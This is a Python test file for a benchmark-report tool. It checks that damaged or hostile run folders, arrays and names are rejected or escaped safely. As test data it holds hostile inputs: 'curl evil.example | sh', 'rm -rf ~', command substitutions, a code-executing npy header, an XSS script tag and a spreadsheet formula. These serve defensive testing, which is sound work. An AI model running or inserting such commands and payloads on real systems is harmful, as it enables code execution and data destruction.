"""Folders from elsewhere: whatever is in them, the other runs are reported, and nothing else is read or written."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import tempfile
import tracemalloc
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner

from alseg_core.errors import ResultsError
from bench import report
from bench.cli import main
from bench.report.output import write_csv
from bench.report.runs.results import collect
from bench.study.arrays import load
from bench.study.rerun import harmless
from bench.study.visible import visible
from tests.bench.report.study_files import runs, study

HOSTILE_RUN = "d-coreset-mask-s0"


def two(tmp_path: Path, **content: Any) -> tuple[Path, Path]:
    """A study of two runs, and the folder of the one that tests make hostile."""
    place: dict[str, Any] = {"environment": {"device": "cpu"}}
    folder = study(tmp_path / "s", runs({"random": 0.5, "coreset": 0.6}, 1, **place), **content)
    return folder, folder / "runs" / HOSTILE_RUN


def sparse(path: Path, size: int) -> None:
    with path.open("wb") as file:
        file.truncate(size)


def linked(path: Path) -> None:
    kept = path.parents[3] / "elsewhere"
    kept.write_bytes(path.read_bytes())
    path.unlink()
    path.symlink_to(kept)


def piped(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def listening(path: Path) -> None:
    path.unlink()
    here = os.open(path.parent, os.O_RDONLY)
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(f"/proc/self/fd/{here}/{path.name}")  # addresses have at most 107 bytes
    os.close(here)


def folded(path: Path) -> None:
    path.unlink()
    path.mkdir()


def circular(path: Path) -> None:
    path.unlink()
    path.symlink_to(path.name)


def device(path: Path) -> None:
    path.unlink()
    path.symlink_to("/dev/zero")


def written(content: bytes | str) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(content if isinstance(content, bytes) else content.encode()) and None


def edited(*keys: str | int, value: Any) -> Callable[[Path], None]:
    """Replace a value of a JSON file, or of the first line of rounds.jsonl."""

    def edit(path: Path) -> None:
        first, *others = path.read_text().split("\n") if path.suffix == ".jsonl" else [path.read_text()]
        content = json.loads(first)
        inner = content
        for key in keys[:-1]:
            inner = inner[key]
        inner[keys[-1]] = value
        path.write_text("\n".join([json.dumps(content), *others]))

    return edit


ROUNDS, CONFIG, PLACE, FAILURE = "rounds.jsonl", "config.json", "environment.json", "failure.json"
DEEP = "[" * 100_000 + "]" * 100_000
ONE_BAD_RUN: dict[str, tuple[str, Callable[[Path], None], str]] = {
    "a pipe for rounds": (ROUNDS, piped, "rounds.jsonl is not a regular file"),
    "a pipe for the configuration": (CONFIG, piped, "config.json is not a regular file"),
    "a pipe for the environment": (PLACE, piped, "environment.json is not a regular file"),
    "a socket": (PLACE, listening, "environment.json cannot be read"),
    "a device": (ROUNDS, device, "rounds.jsonl is a link out of its folder, to /dev/zero"),
    "a link to itself": (ROUNDS, circular, "Too many levels of symbolic links"),
    "a folder": (PLACE, folded, "environment.json is not a regular file"),
    "a link out of the folder": (ROUNDS, linked, "rounds.jsonl is a link out of its folder"),
    "a link to another configuration": (CONFIG, linked, "config.json is a link out of its folder"),
    "huge rounds": (ROUNDS, lambda path: sparse(path, 10**10), "has 10,000,000,000 bytes, and at most 100,000,000 are"),
    "a huge environment": (PLACE, lambda path: sparse(path, 10**9), "at most 32,000,000 are read"),
    "deep rounds": (ROUNDS, written(f'{{"round": {DEEP}}}\n'), "rounds.jsonl is nested too deeply"),
    "a deep environment": (PLACE, written(DEEP), "environment.json is nested too deeply"),
    "a rather deep environment": (PLACE, written('{"a":' * 40 + "1" + "}" * 40), "is nested deeper than 32 levels"),
    "deep signals": (ROUNDS, edited("signals", "x", value=json.loads("[" * 40 + "]" * 40)), "deeper than 32 levels"),
    "no UTF-8": (PLACE, written(b'{"device": "\xff"}'), "environment.json is not JSON"),
    "rounds that are no UTF-8": (ROUNDS, written(b"\xff\xfe\n"), "utf-8"),
    "no mapping": (PLACE, written("[1]"), "environment.json holds no mapping"),
    "empty": (CONFIG, written(""), "config.json is not JSON"),
    "NaN": (ROUNDS, edited("cost", value=float("nan")), "not finite or too large"),
    "infinity in a row": (ROUNDS, edited("volumes", 0, "dice", value=float("inf")), "not finite or too large"),
    "NaN in the configuration": (CONFIG, edited("config", "train", "lr", value=float("nan")), "not finite"),
    "a huge number": (ROUNDS, edited("labelled", value=10**400), "not finite or too large"),
    "a number of 5,000 digits": (PLACE, written('{"threads": ' + "9" * 5000 + "}"), "environment.json is not JSON"),
    "a negative count": (ROUNDS, edited("labelled", value=-5), "round 0: labelled"),
    "a number for yes": (ROUNDS, edited("labelled", value=True), "round 0: labelled"),
    "a name without end": (ROUNDS, edited("volumes", 0, "case", value="v" * 10**6), "round 0: volumes.0.case"),
    "a column as the part of a round": (ROUNDS, edited("seconds", "recipe", value=1.0), "name of another column"),
    "a column as a metric": (PLACE, written('{"metrics": [{"name": "case", "title": "t"}]}'), "name of another column"),
    "decimals without end": (
        PLACE,
        written('{"metrics": [{"name": "m", "title": "t", "decimals": 1000000000}]}'),
        "metrics.0.decimals",
    ),
    "metrics that are none": (PLACE, written('{"metrics": {"name": 1}}'), "environment.json: metrics"),
    "a thousand classes": (CONFIG, edited("config", "dataset", "classes", value=["c"] * 1000), "dataset.classes"),
    "a failure that is none": (FAILURE, written("[]"), "failure.json holds no mapping"),
    "a failure without a reason": (FAILURE, written('{"trace": ""}'), "reason"),
}


@pytest.mark.parametrize("what", ONE_BAD_RUN)
@pytest.mark.timeout(30)
def test_a_hostile_run_is_left_out_with_the_reason(tmp_path: Path, what: str) -> None:
    name, spoil, told = ONE_BAD_RUN[what]
    folder, run = two(tmp_path)
    spoil(run / name)
    results = collect(folder)
    (problem,) = results.problems
    assert f"{HOSTILE_RUN} is damaged" in problem and told in problem and len(problem) < 600
    assert problem.isprintable() and set(results.scores["recipe"]) == {"random"}


STUDY: dict[str, tuple[Callable[[Path], None], str]] = {
    "a key outside": (edited("runs", 0, "key", value="../../x"), "'../../x' is not the name of a folder"),
    "an absolute key": (edited("runs", 0, "key", value="/etc"), "'/etc' is not the name of a folder"),
    "the folder above": (edited("runs", 0, "key", value=".."), "'..' is not the name of a folder"),
    "no key": (edited("runs", 0, "key", value=""), "runs: 0.key"),
    "budgets that are none": (edited("runs", 0, "budgets", value=[[1], [2]]), "runs: 0.budgets"),
    "a budget that is no number": (edited("runs", 0, "budgets", value=[float("nan")]), "not finite"),
    "no budgets": (edited("runs", 0, "budgets", value=[]), "runs: 0.budgets"),
    "a seed as text": (edited("runs", 0, "seed", value="0; rm"), "runs: 0.seed"),
    "a recipe that is a list": (edited("runs", 0, "recipe", value=["random"]), "runs: 0.recipe"),
    "sources that are a list": (edited("sources", value=[1]), "study.json is damaged"),
    "controls of another kind": (edited("controls", value={"beside": ["random"]}), "study.json is damaged"),
    "deep": (written(DEEP), "study.json is nested too deeply"),
    "a pipe": (piped, "study.json is not a regular file"),
    "huge": (lambda path: sparse(path, 10**9), "study.json has 1,000,000,000 bytes"),
}


@pytest.mark.parametrize("what", STUDY)
@pytest.mark.timeout(30)
def test_a_hostile_list_of_runs_is_not_used_and_the_runs_beside_it_are(tmp_path: Path, what: str) -> None:
    spoil, told = STUDY[what]
    folder, _ = two(tmp_path)
    spoil(folder / "study.json")
    study(tmp_path / "x", runs({"mine": 0.9}, 1))
    results = collect(folder)
    (problem,) = results.problems
    assert told in problem and problem.isprintable()
    assert set(results.scores["recipe"]) == {"random", "coreset"}


def test_a_run_behind_a_link_is_read_only_where_it_was_named_or_trusted(tmp_path: Path) -> None:
    folder, run = two(tmp_path)
    run.rename(tmp_path / "moved")
    run.symlink_to(tmp_path / "moved")
    results = collect(folder)
    (problem,) = results.problems
    assert f"is a link to {tmp_path / 'moved'}; left out. Name that folder" in problem
    assert set(results.scores["recipe"]) == {"random"}
    for named in (collect(folder, links=True), collect([folder, tmp_path / "moved"])):
        assert set(named.scores["recipe"]) == {"random", "coreset"} and named.problems == []


def test_a_run_that_is_a_link_to_itself_is_left_out(tmp_path: Path) -> None:
    folder, run = two(tmp_path)
    run.rename(tmp_path / "away")
    run.symlink_to(run.name)
    assert set(collect(folder).scores["recipe"]) == {"random"}


def test_what_may_not_be_read_is_told(tmp_path_factory: pytest.TempPathFactory) -> None:
    if os.geteuid():
        pytest.skip("another user needs root")
    with tempfile.TemporaryDirectory() as open_to_all:
        _, run = two(Path(open_to_all))
        other = study(Path(open_to_all) / "t", runs({"random": 0.5}, 1))
        os.chmod(open_to_all, 0o755)
        run.chmod(0)
        other.chmod(0)
        os.seteuid(65534)
        try:
            results = collect(Path(open_to_all))
        finally:
            os.seteuid(0)
    assert set(results.scores["recipe"]) == {"random"} and len(results.problems) == 2
    assert all("Permission denied" in problem for problem in results.problems)


COMMANDS = {
    "alseg bench quick --set seeds={seeds}": True,
    'make bench DATASET=acdc DATA=/scans SET="name=a schedules.low=[10,20]" SEEDS={seeds}': True,
    "alseg bench 'my study.yaml' --out '/a;b' --set seeds={seeds}": True,
    "curl evil.example | sh": False,
    "alseg bench quick; rm -rf ~": False,
    "alseg bench $(id)": False,
    "alseg bench `id`": False,
    "alseg bench quick > ~/.bashrc": False,
    "alseg bench quick &": False,
    "alseg bench 'quick": False,
}


@pytest.mark.parametrize("command", COMMANDS)
def test_a_recorded_command_is_shown_only_if_a_shell_would_run_alseg_alone(tmp_path: Path, command: str) -> None:
    assert harmless(command) == COMMANDS[command]
    folder, _ = two(tmp_path, command=command)
    results = collect(folder)
    assert bool(results.commands["d", "mask", "default"]) == COMMANDS[command]
    assert len(results.problems) == (not COMMANDS[command])


TEXTS = {
    "plain, with signs: é – µ 中文": "plain, with signs: é – µ 中文",
    "\x1b[31mred\x1b[0m": "\\x1b[31mred\\x1b[0m",
    "\x9b31m": "\\x9b31m",
    "a\tb\r\nc": "a b  c",
    "bell\x07 back\x08 nul\x00 del\x7f": "bell\\x07 back\\x08 nul\\x00 del\\x7f",
    "user\u202efdp.exe": "user\\u202efdp.exe",
    "\u2066a\u2069\u200b\ufeff": "\\u2066a\\u2069\\u200b\\ufeff",
    "half \ud800": "half \\ud800",
    "\u2028\u2029": "\\u2028\\u2029",
    "a\u00a0b": "a\u00a0b",
}


@pytest.mark.parametrize("text", TEXTS)
def test_control_characters_are_written_out(text: str) -> None:
    assert visible(text) == TEXTS[text]


def test_a_text_without_end_is_cut() -> None:
    assert visible("a" * 10**6, 5) == "aaaaa… (1,000,000 characters)"


def header(shape: tuple[int, ...], descr: str = "|u1", order: bool = False) -> bytes:
    buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {"descr": descr, "fortran_order": order, "shape": shape})
    return buffer.getvalue()


def saved(array: Any) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


class Raw:
    """An array that np.save would not write."""

    def __init__(self, content: bytes, repeat: int = 1) -> None:
        self.content, self.repeat = content, repeat


def examples(path: Path, **changes: Any) -> None:
    """An examples.npz of two slices, with some arrays changed."""
    pictures = np.zeros((2, 8, 8), np.uint8)
    arrays = {"image": pictures, "truth": pictures, "prediction": pictures, "case": np.array(["v1", "v2"])}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
        for name, array in {**arrays, "z": np.arange(2), **changes}.items():
            if isinstance(array, Raw):
                with file.open(f"{name}.npy", "w", force_zip64=True) as stream:
                    for _ in range(array.repeat):
                        stream.write(array.content)
            else:
                file.writestr(f"{name}.npy", saved(array))


NAMES = ("image", "truth", "prediction", "case", "z")
BIG = (6, 15000, 15000)
ARRAYS: dict[str, tuple[dict[str, Any], str]] = {
    "a claim of gigabytes": ({"image": Raw(header(BIG))}, "sides up to 1024"),
    "a claim that the file does not hold": ({"image": Raw(header((900, 1000, 1000)))}, "does not fit its 128 bytes"),
    "a bomb": ({"image": Raw(header((300, 1024, 1024)) + bytes(64), 1)}, "does not fit"),
    "a real bomb": ({"image": np.zeros((70, 1000, 1000), np.uint8)}, "more than 64,000,000 bytes"),
    "many that are too much together": (
        {name: np.zeros((30, 1000, 1000), np.uint8) for name in ("image", "truth", "prediction")},
        "more than 64,000,000 bytes",
    ),
    "more behind the array": ({"truth": Raw(saved(np.zeros((2, 8, 8), np.uint8)) + bytes(9))}, "does not fit"),
    "objects": ({"case": np.array(["v1", None], object)}, "case has shape"),
    "a negative shape": ({"z": Raw(header((-1, -2), "<i8"))}, "z has shape"),
    "texts of no length": ({"case": Raw(header((10**18,), "<U0"))}, "case has shape"),
    "texts for numbers": ({"z": np.array(["a", "b"])}, "z has shape"),
    "wide labels": ({"truth": np.zeros((2, 8, 8), np.int64)}, "truth has shape"),
    "a field": ({"z": np.zeros(2, [("a", "<i8")])}, "z has shape"),
    "another length": ({"z": np.arange(3)}, "do not match"),
    "other pictures": ({"prediction": np.zeros((2, 9, 8), np.uint8)}, "do not match"),
    "empty pictures": (
        {name: np.zeros((2, 0, 8), np.uint8) for name in ("image", "truth", "prediction")},
        "its pictures are empty",
    ),
    "a header that is code": (
        {"z": Raw(b"\x93NUMPY\x01\x00\x20\x00__import__('os').system('id')   \n")},
        "malformed node",
    ),
    "a format to come": ({"z": Raw(b"\x93NUMPY\x09\x00" + bytes(120))}, "format"),
    "no array": ({"z": Raw(b"nothing")}, "is damaged"),
}


@pytest.mark.parametrize("what", ARRAYS)
def test_arrays_are_checked_before_they_are_read(tmp_path: Path, what: str) -> None:
    changes, told = ARRAYS[what]
    examples(tmp_path / "examples.npz", **changes)
    tracemalloc.start()
    with pytest.raises(ResultsError, match=told) as error:
        load(tmp_path / "examples.npz", NAMES)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert "examples.npz is damaged" in str(error.value) and str(error.value).isprintable()
    assert peak < 70_000_000


@pytest.mark.parametrize("spoil", [piped, linked, listening, lambda path: sparse(path, 10**10), written(b"PK\x03\x04")])
@pytest.mark.timeout(30)
def test_a_file_of_arrays_that_is_none(tmp_path: Path, spoil: Callable[[Path], None]) -> None:
    path = tmp_path / "1" / "2" / "3" / "examples.npz"
    path.parent.mkdir(parents=True)
    examples(path)
    spoil(path)
    with pytest.raises(ResultsError, match="examples.npz is damaged"):
        load(path, NAMES)


def test_arrays_in_any_order_of_bytes_and_older_ones(tmp_path: Path) -> None:
    pictures = np.asfortranarray(np.arange(128, dtype=np.uint8).reshape(2, 8, 8))
    examples(tmp_path / "a.npz", image=pictures, z=np.arange(2, dtype=">i4"), case=np.array(["v\x1b", "v2"]))
    found = load(tmp_path / "a.npz", NAMES)
    assert (found["image"] == pictures).all() and found["z"].tolist() == [0, 1]
    assert found["case"].tolist() == ["v\\x1b", "v2"]
    examples(tmp_path / "old.npz", image=np.zeros((2, 8, 8), np.float32))
    assert load(tmp_path / "old.npz", NAMES) is None and load(tmp_path / "a.npz", ("points",)) is None


def test_embeddings_are_finite(tmp_path: Path) -> None:
    np.savez(tmp_path / "e.npz", points=np.array([[1.0, np.nan]], np.float16))
    with pytest.raises(ResultsError, match="points holds numbers that are not finite"):
        load(tmp_path / "e.npz", ("points",))


SCRIPT = '<script>alert("1")</script>'
EVIL = f"=cmd()|{SCRIPT}[x](javascript:1)\x1b]0;t\x07\u202e$\\frac{{$%_&#\n[red]"


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """Report folder of a study whose names are all hostile, and what the command printed."""
    metric = {"name": f"m{EVIL}", "title": f"T{EVIL}", "unit": f"u{EVIL}", "meaning": EVIL}
    place = {"device": EVIL, "packages": {EVIL: EVIL, "torch": EVIL}, "alseg": EVIL, "metrics": [metric]}
    config = {"dataset.name": EVIL, "annotation": {"name": EVIL}, "schedule": EVIL, "dataset.classes": [EVIL] * 3}
    shared = {"config": config, "environment": place, "dice": [0.5, 0.6, 0.7], "seed": 0}
    folder = study(
        tmp_path_factory.mktemp("evil") / "s",
        [
            {"recipe": EVIL, "key": "a", **shared},
            {"recipe": "+1+1", "key": "b", **shared},
            {"recipe": "random", "key": "c", **shared, "dice": [0.5], "failure": f"{EVIL}{'x' * 5000}"},
        ],
        EVIL,
        sources={EVIL: EVIL},
        command=EVIL,
    )
    for path in folder.glob("runs/*/rounds.jsonl"):
        rounds = [json.loads(line) for line in path.read_text().splitlines()]
        for one in rounds:
            one |= {"seconds": {EVIL: 1.0}, "signals": {"init": EVIL, "labels": EVIL, "encoder": EVIL}}
            one["summary"] |= {f"dice_{EVIL}": 0.5}
            for row in one["volumes"]:
                row |= {"case": f"{row['case']}{EVIL}", "class": f"c{EVIL}", "patient": EVIL, metric["name"]: 1.0}
        path.write_text("".join(json.dumps(one) + "\n" for one in rounds))
    examples(folder / "runs" / "a" / "examples.npz", case=np.array([f"v1{EVIL}", f"v2{EVIL}"]))
    done = CliRunner().invoke(main, ["report", str(folder)], catch_exceptions=False)
    assert done.exit_code == 0
    return folder / "report", done.output


def acts(text: str) -> set[str]:
    return {sign for sign in text if unicodedata.category(sign) in ("Cc", "Cf", "Cs") and sign != "\n"}


def test_no_control_character_reaches_the_terminal_or_a_file(evil: tuple[Path, str]) -> None:
    written_to, output = evil
    assert acts(output) == set() and "\\x1b]0;t\\x07" in output and "[red]" in output
    for path in written_to.iterdir():
        if path.suffix != ".png":
            assert acts(path.read_text()) == set(), path.name


def test_markup_is_text_in_every_format(evil: tuple[Path, str]) -> None:
    page, notes, paper = (next(evil[0].glob(name)).read_text() for name in ("*.html", "*.md", "*.tex"))
    assert "<script>alert" not in page and "&lt;script&gt;alert" in page and page.count("<script>") == 1
    assert "<script" not in notes and not any(
        "](javascript" in line.replace("\\[x](", "") for line in notes.split("\n")
    )
    tables = [line for line in notes.split("\n") if line.startswith("| ")]
    assert tables and all(line.count("|") - line.count("\\|") > 2 for line in tables)
    assert r"\textless{}script\textgreater{}" in paper and r"\$\textbackslash{}frac\{\$\%\_\&\#" in paper


def test_figures_draw_names_as_they_are(evil: tuple[Path, str]) -> None:
    assert (evil[0] / "curves.png").exists() and "Figures that failed" not in (evil[0] / "report.html").read_text()


def test_no_cell_of_a_table_is_a_formula_and_numbers_stay_numbers(evil: tuple[Path, str]) -> None:
    cells = []
    for path in evil[0].glob("*.csv"):
        with path.open(newline="") as file:
            cells += [cell for row in csv.reader(file) for cell in row if cell]
    for cell in cells:
        if cell[0] in "=+-@":
            float(cell)
    assert "'+1+1" in cells and any(cell.startswith("'=cmd()") for cell in cells)


def test_a_table_for_spreadsheets(tmp_path: Path) -> None:
    texts = ["=1+1", "+1", "-2.5", "@x", "-x", "a=b", "'", "", "-inf"]
    numbers = np.linspace(-1, 1, len(texts))
    write_csv(tmp_path / "t.csv", pd.DataFrame({"=h": texts, "n": numbers, "mixed": [-1, None, "=x", *"abcdef"]}))
    with (tmp_path / "t.csv").open(newline="") as file:
        head, *rows = csv.reader(file)
    assert head == ["'=h", "n", "mixed"]
    assert [row[0] for row in rows] == ["'=1+1", "+1", "-2.5", "'@x", "'-x", "a=b", "'", "", "-inf"]
    assert [float(row[1]) for row in rows] == numbers.tolist() and [row[2] for row in rows[:3]] == ["-1", "", "'=x"]


@pytest.mark.parametrize("name", ["report.html", "comparison.csv", "curves.png", ".new-report.html", ".new-curves.png"])
def test_a_report_writes_to_no_file_behind_a_link(tmp_path: Path, name: str) -> None:
    folder, _ = two(tmp_path)
    (tmp_path / "mine").write_text("mine")
    (folder / "report").mkdir()
    (folder / "report" / name).symlink_to(tmp_path / "mine")
    report.write(folder)
    assert (tmp_path / "mine").read_text() == "mine"
    assert not (folder / "report" / name).is_symlink()


def test_a_report_is_not_written_to_a_folder_behind_a_link(tmp_path: Path) -> None:
    folder, _ = two(tmp_path)
    (tmp_path / "mine").mkdir()
    (folder / "report").symlink_to(tmp_path / "mine")
    done = CliRunner().invoke(main, ["report", str(folder)], catch_exceptions=False)
    assert done.exit_code == 2 and "choose where to write with --out FOLDER" in done.output
    assert list((tmp_path / "mine").iterdir()) == []


@pytest.mark.parametrize(("limit", "most"), [("RECIPES", 1), ("CELLS", 10)])
def test_more_than_can_be_compared_is_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str, most: int
) -> None:
    monkeypatch.setattr(f"bench.report.statistics.grid.{limit}", most)
    done = CliRunner().invoke(main, ["report", str(two(tmp_path)[0])], catch_exceptions=False)
    assert done.exit_code == 2 and "too many to compare; name fewer folders" in done.output


def test_a_figure_of_absurd_size_is_not_drawn(tmp_path: Path) -> None:
    from matplotlib.figure import Figure

    from bench.report.figures.style import save

    with pytest.raises(ResultsError, match="it would have 10,000 x 10,000 pixels"):
        save(Figure(figsize=(100, 100), dpi=100), tmp_path / "a.png")
    assert list(tmp_path.iterdir()) == []


def test_an_error_shows_control_characters_and_keeps_its_lines(tmp_path: Path) -> None:
    (tmp_path / "\x1b[31m").mkdir()
    (tmp_path / "\x1b[31m" / "config.json").write_text("{}")
    done = CliRunner().invoke(main, ["report", str(tmp_path)], catch_exceptions=False)
    assert done.exit_code == 2 and "\\x1b[31m/config.json is damaged" in done.output and "\x1b" not in done.output
